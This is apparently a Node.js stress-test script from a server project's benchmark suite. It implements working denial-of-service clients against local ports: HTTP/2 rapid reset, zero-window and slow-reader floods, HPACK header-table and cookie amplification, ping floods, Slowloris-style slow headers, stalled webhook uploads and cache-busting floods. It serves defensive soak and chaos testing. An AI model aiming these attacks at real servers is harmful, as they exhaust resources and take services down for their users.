// Clients that mean harm, one function per attack, held to a share of one core. Used by bench/soak.sh and bench/chaos.
//
//   node bench/hostile.mjs --port PORT[,PORT…] [--share 0.3] [--only ATTACK,…] [--scale N] [--polite BYTES --requests N]
//
// Prints a line of JSON a second: what was sent and received so far, the connections open now, and the share of a core used.
// With --polite the same bytes a second are sent by clients that behave: the control of a measurement.

import http from 'node:http'
import net from 'node:net'
import { fileURLToPath } from 'node:url'
import { options, sleep } from '../tests/process.mjs'

const SOURCE = '127.6.6.6' // another client than the normal ones
const HOST = 'api.test'
const TICK = 5 // ms between two rounds of the pacer
const BURST = 16 // turns that are given in one round, at most
const REOPEN = 250 // ms until a connection that the server closed is opened again

// ── What they ask for ──

/** Targets of the attacks; an origin passes requests for /hostile/ to `answerHostile`. */
const targets = {
  large: () => `/hostile/large/${below(16)}`,
  medium: () => `/hostile/medium/${below(1e9)}`,
  item: () => `/hostile/items?q=${below(1e12)}`,
  varied: '/hostile/varied',
  socket: '/hostile/socket',
  webhook: '/_larder/webhooks/shop',
  events: '/_larder/events'
}

const BODIES = { large: Buffer.alloc(2 << 20, 'l'), medium: Buffer.alloc(64 << 10, 'm'), items: Buffer.alloc(1 << 10, 'i'), varied: Buffer.alloc(1 << 10, 'v') }

/** The origin's answers to what the attacks ask for: all may be stored for an hour. */
export function answerHostile (request, response) {
  const kind = /^\/hostile\/([a-z]+)/.exec(request.url)?.[1]
  request.resume()
  response.setHeader('Content-Type', 'text/plain')
  response.setHeader('Cache-Control', request.method === 'GET' ? 'max-age=3600' : 'no-store')
  if (kind === 'varied') response.setHeader('Vary', 'Accept-Language')
  response.end(BODIES[kind] ?? 'taken')
}

// ── The means ──

/** What the attacks share: counters, and the pacer that keeps all of them under `share` of a core. */
class World {
  constructor ({ ports, share, scale }) {
    Object.assign(this, { ports, share, scale, sent: 0, received: 0, requests: 0, sockets: new Set(), waiting: [], isOver: false })
    this.begin = this.mark()
    this.window = this.begin
    setInterval(() => this.turn(), TICK)
  }

  mark () {
    const { user, system } = process.cpuUsage()
    return { at: performance.now(), cpu: (user + system) / 1000 }
  }

  used (since) {
    const now = this.mark()
    return (now.cpu - since.cpu) / Math.max(1, now.at - since.at)
  }

  /** Lets those that wait go on, in order, as long as the share of the last second allows it. */
  turn () {
    if (performance.now() - this.window.at > 1000) this.window = this.mark()
    for (let i = 0; i < BURST && this.waiting.length && this.used(this.window) < this.share * 0.95; i++) this.waiting.shift()()
  }

  /** Waits for its turn. All that costs an attacker processor time comes after it. */
  breathe () {
    return new Promise(resolve => this.waiting.push(resolve))
  }

  port () {
    return this.ports[below(this.ports.length)]
  }

  /** A connection that counts what goes over it. */
  connect () {
    return new Promise((resolve, reject) => {
      const socket = net.connect({ host: '127.0.0.1', port: this.port(), localAddress: SOURCE, noDelay: true })
      socket.once('error', reject)
      socket.once('connect', () => {
        this.sockets.add(socket)
        socket.on('error', () => {})
        socket.on('close', () => this.sockets.delete(socket))
        resolve(socket)
      })
    })
  }

  send (socket, bytes) {
    if (socket.destroyed || socket.writableLength > 1 << 16) return
    this.sent += bytes.length
    socket.write(bytes)
  }

  /** Keeps so many connections open that `open` resolves to; one that ends is opened again. */
  async hold (count, open) {
    const keep = async () => {
      while (!this.isOver) {
        await this.breathe()
        const socket = await open().catch(() => undefined)
        if (socket && !socket.destroyed) await new Promise(resolve => socket.once('close', resolve))
        await sleep(REOPEN)
      }
    }
    await Promise.all(Array.from({ length: Math.ceil(count * this.scale) }, keep))
  }

  /** Does something again and again on a connection that stays. */
  async flood (count, connect, act) {
    await this.hold(count, async () => {
      const connection = await connect()
      const socket = connection.socket ?? connection
      while (!socket.destroyed) {
        await this.breathe()
        act(connection)
      }
      return socket
    })
  }

  /** A request over HTTP/1.1, as bytes. */
  head (method, path, fields = {}) {
    this.requests++
    const lines = Object.entries(fields).map(([name, value]) => `${name}: ${value}\r\n`).join('')
    return Buffer.from(`${method} ${path} HTTP/1.1\r\nHost: ${HOST}\r\n${lines}\r\n`)
  }

  report () {
    const { sent, received, requests, sockets, begin } = this
    return { sent, received, requests, connections: sockets.size, seconds: (performance.now() - begin.at) / 1000, share: this.used(begin) }
  }
}

const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, windowUpdate: 8 }
const END_STREAM = 1
const END_HEADERS = 4
const ACK = 1
const INITIAL_WINDOW_SIZE = 4

/** A connection that speaks HTTP/2 in single frames (RFC 9113), and gives the server no window unless it is told to. */
class Http2 {
  static async open (world, { window = 0 } = {}) {
    const connection = new Http2(world, await world.connect())
    const setting = Buffer.alloc(6)
    setting.writeUInt16BE(INITIAL_WINDOW_SIZE, 0)
    setting.writeUInt32BE(window, 2)
    world.send(connection.socket, Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.settings, 0, 0, setting)]))
    return connection
  }

  constructor (world, socket) {
    Object.assign(this, { world, socket, stream: -1, unread: Buffer.alloc(0) })
    socket.on('data', bytes => this.read(bytes))
  }

  /** Acknowledges settings and pings, so that the server takes the client for one that lives. */
  read (bytes) {
    this.world.received += bytes.length
    this.unread = this.unread.length ? Buffer.concat([this.unread, bytes]) : bytes
    while (this.unread.length >= 9) {
      const length = this.unread.readUIntBE(0, 3)
      if (this.unread.length < 9 + length) return
      const [type, flags] = [this.unread[3], this.unread[4]]
      const payload = this.unread.subarray(9, 9 + length)
      this.unread = this.unread.subarray(9 + length)
      if (flags & ACK && type !== FRAME.data) continue
      if (type === FRAME.settings) this.send(FRAME.settings, ACK, 0)
      if (type === FRAME.ping) this.send(FRAME.ping, ACK, 0, payload)
      if (type === FRAME.goaway) this.socket.destroy()
    }
  }

  send (type, flags, stream, payload = Buffer.alloc(0)) {
    this.world.send(this.socket, frame(type, flags, stream, payload))
  }

  /** A GET on a new stream, with these fields (encoded already) after its own; the stream. */
  get (path, fields = Buffer.alloc(0)) {
    this.world.requests++
    this.stream += 2
    const own = Buffer.concat([Buffer.from([0x82, 0x86]), literal(0x00, 4, path), literal(0x00, 1, HOST)]) // GET, http
    this.send(FRAME.headers, END_STREAM | END_HEADERS, this.stream, Buffer.concat([own, fields]))
    return this.stream
  }

  /** Lets so many bytes more come on a stream, or with 0 on the connection. */
  allow (stream, bytes) {
    const payload = Buffer.alloc(4)
    payload.writeUInt32BE(bytes)
    this.send(FRAME.windowUpdate, 0, stream, payload)
  }
}

function frame (type, flags, stream, payload) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

// HPACK (RFC 7541): integers, strings as they are, literals whose name is indexed or new; 0x40 keeps them in the table, 0x00 does not.
function integer (first, bits, value) {
  const most = (1 << bits) - 1
  if (value < most) return Buffer.from([first | value])
  const bytes = [first | most]
  for (value -= most; value >= 128; value >>= 7) bytes.push(value & 127 | 128)
  return Buffer.from([...bytes, value])
}

function string (text) {
  return Buffer.concat([integer(0, 7, text.length), Buffer.from(text)])
}

function literal (kind, name, value) {
  const bits = kind === 0x40 ? 6 : 4
  const named = typeof name === 'number' ? integer(kind, bits, name) : Buffer.concat([integer(kind, bits, 0), string(name)])
  return Buffer.concat([named, string(value)])
}

const NEWEST = 0xbe // the newest entry of the dynamic table

function below (count) {
  return Math.floor(Math.random() * count)
}

// ── The attacks ──

export const attacks = {
  /** Large bodies over HTTP/1.1, of which some KiB are read a second. */
  async slowReadersH1 (world) {
    await world.hold(32, async () => {
      const socket = await world.connect()
      socket.pause()
      world.send(socket, world.head('GET', targets.large()))
      const timer = setInterval(() => { world.received += socket.read()?.length ?? 0 }, 1000)
      socket.once('close', () => clearInterval(timer))
      return socket
    })
  },

  /** Bodies of 64 KiB on a hundred streams, of which 1 KiB is taken every second, on any of them. */
  async slowReadersH2 (world) {
    await world.hold(8, async () => {
      const connection = await Http2.open(world, { window: 1024 })
      for (let i = 0; i < 100; i++) connection.get(targets.medium())
      const timer = setInterval(() => {
        connection.allow(1 + 2 * below(100), 1024)
        connection.allow(0, 1024)
      }, 1000)
      connection.socket.once('close', () => clearInterval(timer))
      return connection.socket
    })
  },

  /** Bodies of 64 KiB and no window for any of them. */
  async windowZero (world) {
    await world.hold(8, async () => {
      const connection = await Http2.open(world)
      for (let i = 0; i < 100; i++) connection.get(targets.medium())
      return connection.socket
    })
  },

  /** Connections over which nothing is read, not even what HTTP/2 needs. */
  async deafH2 (world) {
    await world.hold(8, async () => {
      const connection = await Http2.open(world, { window: 1 << 20 })
      connection.allow(0, 1 << 24)
      for (let i = 0; i < 50; i++) connection.get(targets.large())
      connection.socket.pause()
      return connection.socket
    })
  },

  /** A thousand cookie fields in one request, a byte each. */
  async cookieCrumbs (world) {
    const crumbs = Buffer.concat([literal(0x40, 32, 'a=1'), Buffer.alloc(1000, NEWEST)])
    await world.flood(4, () => Http2.open(world), connection => {
      const stream = connection.get(targets.item(), crumbs)
      if (stream > 199) connection.socket.destroy()
    })
  },

  /** A value of 3.9 KB in the header table, named fifteen times a stream by one byte each; no body is taken, so that heads stay. */
  async headerTables (world) {
    const value = Buffer.concat([literal(0x40, 'x-a', 'x'.repeat(3900)), Buffer.alloc(14, NEWEST)])
    await world.hold(8, async () => {
      const connection = await Http2.open(world)
      for (let i = 0; i < 240 && !connection.socket.destroyed; i++) {
        connection.get(targets.item(), i ? Buffer.alloc(15, NEWEST) : value)
        if (i % 40 === 39) await world.breathe()
      }
      return connection.socket
    })
  },

  /** Streams that are reset at once. */
  async rapidResets (world) {
    await world.flood(2, () => Http2.open(world), connection => {
      for (let i = 0; i < 10; i++) connection.send(FRAME.reset, 0, connection.get(targets.item()), Buffer.from([0, 0, 0, 8]))
    })
  },

  /** Frames that have to be answered. */
  async pings (world) {
    await world.flood(2, () => Http2.open(world), connection => {
      connection.send(FRAME.ping, 0, 0, Buffer.alloc(8))
      connection.send(FRAME.settings, 0, 0)
    })
  },

  /** Upgraded connections on which nothing is said. */
  async idleTunnels (world) {
    const fields = { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'AAAAAAAAAAAAAAAAAAAAAA==' }
    await world.hold(200, async () => {
      const socket = await world.connect()
      socket.resume()
      world.send(socket, world.head('GET', targets.socket, fields))
      return socket
    })
  },

  /** All seats of the event stream, over one connection. */
  async eventSeats (world) {
    await world.hold(2, async () => {
      const connection = await Http2.open(world)
      for (let i = 0; i < 100; i++) connection.get(targets.events)
      return connection.socket
    })
  },

  /** Queries that were never asked before. */
  async queries (world) {
    await world.flood(4, () => reading(world), socket => world.send(socket, world.head('GET', targets.item())))
  },

  /** Variants of one target that were never asked for before. */
  async variants (world) {
    await world.flood(4, () => reading(world), socket => {
      world.send(socket, world.head('GET', targets.varied, { 'Accept-Language': `x-${below(1e12).toString(36)}` }))
    })
  },

  /** Bodies for a webhook that never end, and have no signature. */
  async webhooks (world) {
    await world.hold(32, async () => {
      const socket = await reading(world)
      world.send(socket, world.head('POST', targets.webhook, { 'Content-Type': 'application/json', 'Content-Length': 900000 }))
      trickle(world, socket, () => Buffer.alloc(64, ' '), 500)
      return socket
    })
  },

  /** Heads that never end. */
  async slowHeads (world) {
    await world.hold(64, async () => {
      const socket = await reading(world)
      world.send(socket, Buffer.from(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n`))
      trickle(world, socket, () => Buffer.from(`X-${below(1000)}: 1\r\n`), 2000)
      return socket
    })
  }
}

/** A connection whose answers are read and forgotten. */
async function reading (world) {
  const socket = await world.connect()
  socket.on('data', bytes => { world.received += bytes.length })
  return socket
}

function trickle (world, socket, bytes, every) {
  const timer = setInterval(() => world.send(socket, bytes()), every)
  socket.once('close', () => clearInterval(timer))
}

/** Clients that behave and send as much: requests that are answered and read, and uploads for what is left of the bytes. */
async function polite (world, { bytes, requests }) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 32 })
  const begun = performance.now()
  const behind = () => {
    const seconds = (performance.now() - begun) / 1000
    return { requests: seconds * requests - world.requests, bytes: seconds * bytes - world.sent }
  }
  const ask = (method, path, body = '') => new Promise(resolve => {
    world.requests++
    const options = { host: '127.0.0.1', port: world.port(), localAddress: SOURCE, agent, method, path, headers: { Host: HOST, 'Content-Length': body.length } }
    const request = http.request(options, response => {
      response.on('data', chunk => { world.received += chunk.length })
      response.on('close', resolve)
    })
    request.on('error', resolve)
    request.end(body)
    world.sent += body.length + 120
  })
  const upload = Buffer.alloc(16 << 10, 'u')
  await Promise.all(Array.from({ length: 32 }, async () => {
    while (!world.isOver) {
      await world.breathe()
      const left = behind()
      if (left.bytes > upload.length) await ask('POST', '/hostile/upload', upload)
      else if (left.requests > 0) await ask('GET', below(8) ? targets.item() : targets.medium())
      else await sleep(20)
    }
  }))
}

// ── The program ──

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const given = options({ port: '', share: '0.3', only: '', scale: '1', polite: '', requests: '0' })
  const world = new World({ ports: given.port.split(',').map(Number), share: Number(given.share), scale: Number(given.scale) })
  const chosen = given.only ? given.only.split(',') : Object.keys(attacks)
  setInterval(() => console.log(JSON.stringify(world.report())), 1000)
  if (given.polite) polite(world, { bytes: Number(given.polite), requests: Number(given.requests) })
  else for (const name of chosen) attacks[name](world)
}
